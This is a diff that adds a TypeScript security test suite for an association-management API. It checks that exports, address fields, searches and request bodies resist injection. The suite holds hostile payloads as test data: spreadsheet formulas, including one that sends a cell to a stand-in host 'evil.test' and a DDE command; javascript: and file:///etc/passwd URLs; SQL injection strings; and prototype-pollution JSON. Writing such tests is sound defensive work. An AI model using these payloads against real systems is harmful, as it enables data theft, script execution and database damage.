@@ -1,0 +1,361 @@
+/** What somebody can write into fields: formulas, addresses that run, wildcards, names of an object's own insides. */
+import { createArticle, listArticles } from '@vigilia/contract/articles';
+import { CALLS } from '@vigilia/contract/calls';
+import { createCourse } from '@vigilia/contract/courses';
+import { createLink, updateLink } from '@vigilia/contract/links';
+import { exportAssembly, exportResults } from '@vigilia/contract/minutes';
+import { createNews, listNews } from '@vigilia/contract/news';
+import { createProfileItem, listProfileItems } from '@vigilia/contract/profile';
+import { askForRegistration, listRequests } from '@vigilia/contract/registration';
+import { previewImport } from '@vigilia/contract/user-import';
+import { exportUsers, listUsers, updateUser } from '@vigilia/contract/users';
+import { createQuestion } from '@vigilia/contract/votings';
+import fc from 'fast-check';
+import { strFromU8, unzipSync } from 'fflate';
+import { describe, expect, it } from 'vitest';
+import { validRequest } from '../../testing/askings.ts';
+import { anAssembly, attends, represents } from '../../testing/assemblies.ts';
+import { aPicture } from '../../testing/pictures.ts';
+import { aServer, type TestServer } from '../../testing/server.ts';
+import { sheetsOf } from '../../testing/spreadsheets.ts';
+import { tableHashes } from '../../testing/table-hashes.ts';
+
+const FORMULAS = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(A1)',
+  '=HYPERLINK("https://evil.test?"&A1,"x")',
+  "=cmd|'/C calc'!A0",
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(A1)',
+  ' =1+1',
+  '\u00a0=1+1',
+  '\u200b=1+1',
+  '\ufeff=1+1',
+  '\u202e=1+1',
+  'a";=1+1;"',
+  'a\n=1+1',
+  'a;=1+1',
+  'a\t=1+1',
+  '"=1+1"',
+];
+
+/** The cells of a CSV as a spreadsheet reads them: by the rules of quotes alone, whatever stands in them. */
+function cellsOf(csv: string): string[] {
+  const cells: string[] = [];
+  const pattern = /(?:"((?:[^"]|"")*)"|([^";\r\n]*))(?:;|\r\n|$)/gy;
+  for (const [, quoted, plain] of csv.replace(/^\ufeff/, '').matchAll(pattern))
+    cells.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
+  return cells;
+}
+
+/** What Excel, LibreOffice or Numbers would compute. */
+const computes = (cell: string) =>
+  /^[\s\p{Cf}]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u.test(cell) || /^[\t\r]/.test(cell);
+
+describe('a formula in a field', () => {
+  /** An association in which every text is a formula. */
+  async function hostileAssociation(server: TestServer) {
+    const as = await server.anAdministrator();
+    const assemblyId = await anAssembly(server, as, { title: FORMULAS[0] ?? '' });
+    let questionId = 0;
+    for (const [index, formula] of FORMULAS.entries()) {
+      const person = await server.aMember({
+        name: formula,
+        lastName: formula,
+        phone: formula.slice(0, 15),
+        dni: `${index}${formula}`,
+      });
+      await attends(server, as, assemblyId, person);
+      const other = await server.aMember({ name: formula, lastName: formula });
+      await represents(server, assemblyId, person, other);
+      const body = { title: formula, assambleId: assemblyId, peopleToVote: [person.id, other.id] };
+      const created = await server.ask(createQuestion, { as, body });
+      expect(created.status).toBe(201);
+      questionId = created.data.id;
+    }
+    return { as, assemblyId, questionId };
+  }
+
+  it('is text in every spreadsheet that leaves', async () => {
+    const server = await aServer();
+    const { as, assemblyId, questionId } = await hostileAssociation(server);
+    const exports = [
+      [exportUsers, {}],
+      [exportAssembly, { assemblyId }],
+      [exportResults, { id: questionId }],
+    ] as const;
+    for (const [call, params] of exports) {
+      const csv = await server.ask(call, { as, params, query: { format: 'csv' } });
+      expect(csv.status).toBe(200);
+      const cells = cellsOf(csv.text);
+      expect(cells.length).toBeGreaterThan(10);
+      expect(cells.filter(computes)).toEqual([]);
+      const xlsx = await server.ask(call, { as, params, query: { format: 'xlsx' } });
+      const texts = Object.values(sheetsOf(xlsx.bytes))
+        .flat(2)
+        .filter((cell) => typeof cell === 'string');
+      expect(texts.length).toBeGreaterThan(10);
+      expect(texts.filter(computes)).toEqual([]);
+      const parts = Object.values(unzipSync(xlsx.bytes)).map((part) => strFromU8(part));
+      expect(parts.filter((part) => part.includes('<worksheet')).length).toBeGreaterThan(0);
+      expect(parts.filter((part) => /<f[ >]/.test(part))).toEqual([]);
+    }
+  });
+
+  it('is tried in every call that answers a spreadsheet', () => {
+    const tables = CALLS.filter(
+      ({ response, query }) => response === 'bytes' && query && 'format' in query.shape,
+    );
+    expect(tables.map(({ path }) => path).sort()).toEqual(
+      [exportUsers.path, exportAssembly.path, exportResults.path, '/users/import/template'].sort(),
+    );
+  });
+
+  it('that comes in a spreadsheet is a text like any other', async () => {
+    const server = await aServer();
+    const as = await server.anAdministrator();
+    const content = 'Nombre;Apellido;Correo Electronico;Celular;Cedula\r\n=1+1;@x;a@b.test;300;77\r\n';
+    const file = { name: 'x.csv', type: 'text/csv', content };
+    const { data } = await server.ask(previewImport, { as, form: [file] });
+    expect(data.rows[0]?.values.name).toBe('=1+1');
+  });
+});
+
+const RUNNING_ADDRESSES = [
+  'javascript:alert(1)',
+  'JaVaScRiPt:alert(1)',
+  ' javascript:alert(1)',
+  'java\tscript:alert(1)',
+  'java\nscript:alert(1)',
+  'java\u0000script:alert(1)',
+  '\u0001javascript:alert(1)',
+  'javascript\u200b:alert(1)',
+  'data:text/html,<script>alert(1)</script>',
+  'vbscript:msgbox(1)',
+  'file:///etc/passwd',
+  'blob:https://a.test/1',
+  'about:blank',
+  'intent://x#Intent;end',
+  'ftp://a.test',
+  '//evil.test',
+  '\\\\evil.test',
+  '/relative',
+  'https:evil',
+  'https://',
+  'http://a b.test',
+  'https://a.test/\u0000',
+  'https://a.test/\u0007',
+  'https://[::1',
+  'view-source:https://a.test',
+  'feed:javascript:alert(1)',
+];
+
+describe('an address that runs', () => {
+  it('is refused in every field of addresses', async () => {
+    const server = await aServer();
+    const as = await server.anAdministrator();
+    await server.ask(createLink, { as, body: { link: 'News', url: 'https://a.test' } });
+    const before = await tableHashes(server.parts.database);
+    const picture = { name: 'x.jpg', type: 'image/jpeg', content: await aPicture() };
+    const day = '2026-03-02T15:00:00.000Z';
+    for (const url of RUNNING_ADDRESSES) {
+      const course = { name: 'a', description: 'b', startDate: day, endDate: day, price: '0', url };
+      const answers = [
+        await server.ask(createLink, { as, body: { link: 'Cases', url } }),
+        await server.ask(updateLink, { as, params: { id: 1 }, body: { url } }),
+        await server.ask(createArticle, { as, body: { name: 'a', url } }),
+        await server.ask(createCourse, { as, form: [...Object.entries(course), picture] }),
+      ];
+      for (const { status, issues } of answers) {
+        expect(status, url).toBe(422);
+        expect(
+          issues.map(({ path }) => path),
+          url,
+        ).toEqual(['url']);
+      }
+    }
+    expect(await tableHashes(server.parts.database)).toEqual(before);
+  });
+
+  it('is tried in every call that takes an address', () => {
+    const taking = CALLS.filter(({ body }) => body && 'url' in body.shape).map(({ path }) => path);
+    expect(taking.sort()).toEqual(
+      [
+        ...[
+          '/link-url/create',
+          '/link-url/edit/:id',
+          '/articles/create-article',
+          '/articles/update-article/:id',
+        ],
+        ...['/courses/create', '/courses/update/:id'],
+      ].sort(),
+    );
+  });
+});
+
+describe('fields that nobody asked for', () => {
+  const CLAIMS = {
+    id: 4242,
+    userType: 2,
+    user_type: 2,
+    isAdmin: true,
+    role: 'administrator',
+    passwordHash: 'x',
+    password_hash: 'x',
+    sessionCount: 99,
+    createdAt: '1999-01-01T00:00:00.000Z',
+    created: '1999-01-01T00:00:00.000Z',
+    deletedAt: null,
+    position: 1,
+  };
+
+  it('make nobody an administrator by asking to be registered', async () => {
+    const server = await aServer();
+    const body = { name: 'a', lastName: 'b', email: 'a@b.test', phone: '1', dni: '1', ...CLAIMS };
+    const { status, data } = await server.ask(askForRegistration, { body });
+    expect(status).toBe(201);
+    expect(data.id).not.toBe(CLAIMS.id);
+    const as = await server.anAdministrator();
+    const { data: requests } = await server.ask(listRequests, { as });
+    expect(requests).toHaveLength(1);
+    expect(requests[0]).toMatchObject({ id: data.id, email: 'a@b.test' });
+    expect(requests[0]?.date).not.toBe(CLAIMS.createdAt);
+    const users = await server.parts.database.read.selectFrom('users').select('id').execute();
+    expect(users).toHaveLength(1);
+  });
+
+  it('change nothing but what the call is about', async () => {
+    const server = await aServer();
+    const as = await server.anAdministrator();
+    const member = await server.aMember();
+    const { id: _, userType: __, user_type: ___, ...claims } = CLAIMS;
+    const body = { name: 'Otra', ...claims };
+    expect((await server.ask(updateUser, { as, params: { id: member.id }, body })).status).toBe(200);
+    const row = await server.parts.database.read
+      .selectFrom('users')
+      .selectAll()
+      .where('id', '=', member.id)
+      .executeTakeFirstOrThrow();
+    expect(row).toMatchObject({ name: 'Otra', user_type: 1, session_count: 0, email: member.email });
+    expect(row.password_hash).toMatch(/^\$argon2id/);
+    expect(row.created_at).not.toBe(CLAIMS.createdAt);
+    const form = [
+      ...Object.entries({ title: 'a', description: 'b', ...CLAIMS }).map(
+        ([name, value]) => [name, String(value)] as const,
+      ),
+      { name: 'x.jpg', type: 'image/jpeg', content: await aPicture() },
+    ];
+    const { data } = await server.ask(createNews, { as, form });
+    expect(data.id).not.toBe(CLAIMS.id);
+  });
+
+  it('are no part of an answer', async () => {
+    const server = await aServer();
+    const as = await server.anAdministrator();
+    const { data, text } = await server.ask(createArticle, {
+      as,
+      body: { name: 'a', url: 'https://a.test', ...CLAIMS },
+    });
+    expect(Object.keys(data).sort()).toEqual(['id', 'name', 'url']);
+    expect(text).not.toContain('administrator');
+  });
+});
+
+describe('a search', () => {
+  const WILD = [
+    '%',
+    '_',
+    '\\',
+    '%%%',
+    '%a%',
+    '_a_',
+    "'",
+    "' or '1'='1",
+    '"',
+    ';',
+    '--',
+    '/*',
+    '\\%',
+    '[a]',
+    '*',
+    '?',
+  ];
+
+  it('takes wildcards and quotes for what they are', async () => {
+    const server = await aServer();
+    const as = await server.anAdministrator({ name: 'Quien', lastName: 'Busca' });
+    await server.aMember({ name: 'Ana', lastName: 'Ruiz', email: 'ana@b.test', dni: '1' });
+    const odd = await server.aMember({ name: 'A%_\\', lastName: "d'Oro", email: 'odd@b.test', dni: '2' });
+    const found = async (name: string) => {
+      const { status, data } = await server.ask(listUsers, { as, query: { name } });
+      expect(status, name).toBe(200);
+      return data.map(({ id }) => id);
+    };
+    for (const name of WILD)
+      expect(
+        (await found(name)).filter((id) => id !== odd.id),
+        name,
+      ).toEqual([]);
+    for (const name of ['%', '_', '\\', "'", '%_\\', 'a%']) expect(await found(name), name).toEqual([odd.id]);
+  });
+
+  it('reaches no column and no order that it does not name', async () => {
+    const server = await aServer();
+    const as = await server.anAdministrator();
+    for (const sort of [
+      'password_hash',
+      'id; drop table users',
+      '1',
+      'session_count',
+      '__proto__',
+      'constructor',
+    ])
+      expect((await server.ask(listUsers, { as, query: { sort } })).status, sort).toBe(422);
+    expect((await server.ask(listUsers, { as })).data).toHaveLength(1);
+  });
+
+  it('for the worst of patterns looks at each row once', async () => {
+    const server = await aServer();
+    const as = await server.anAdministrator();
+    const picture = { name: 'x.jpg', type: 'image/jpeg', content: await aPicture() };
+    await server.ask(createNews, {
+      as,
+      form: [['title', 'a'], ['description', 'a'.repeat(10_000)], picture],
+    });
+    // With wildcards that count, each of these would try every way to share the text out among them.
+    for (const keyword of ['%a'.repeat(99), '_%'.repeat(99), `${'a%'.repeat(99)}b`])
+      expect((await server.ask(listNews, { as, query: { keyword } })).data).toEqual([]);
+    const long = `${'a.'.repeat(100_000)}@${'a-'.repeat(100_000)}`;
+    expect((await server.ask(askForRegistration, { body: { email: long } })).status).toBe(422);
+  });
+});
+
+it('names of the insides of objects are names like any other', async () => {
+  const server = await aServer();
+  const as = await server.anAdministrator();
+  for (const name of ['__proto__', 'constructor', 'toString', 'hasOwnProperty']) {
+    const body = { name, url: 'https://a.test' };
+    expect((await server.ask(createArticle, { as, body })).data).toMatchObject(body);
+    expect((await server.ask(createProfileItem, { as, body: { name, categoryId: 1 } })).status).toBe(201);
+  }
+  expect((await server.ask(listArticles, { as })).data).toHaveLength(4);
+  expect((await server.ask(listProfileItems, { as })).data).toHaveLength(4);
+  for (const call of CALLS.filter(({ body }) => body)) {
+    const [request] = fc.sample(validRequest(call), { numRuns: 1, seed: 6 });
+    for (const payload of [
+      '{"__proto__":{"polluted":true}}',
+      '{"constructor":{"prototype":{"polluted":true}}}',
+    ])
+      await server.app.inject({
+        method: call.method,
+        url: request?.url ?? '',
+        headers: { 'content-type': 'application/json', authorization: `Bearer ${as.token}` },
+        payload,
+      });
+  }
+  expect(({} as Record<string, unknown>).polluted).toBeUndefined();
+});
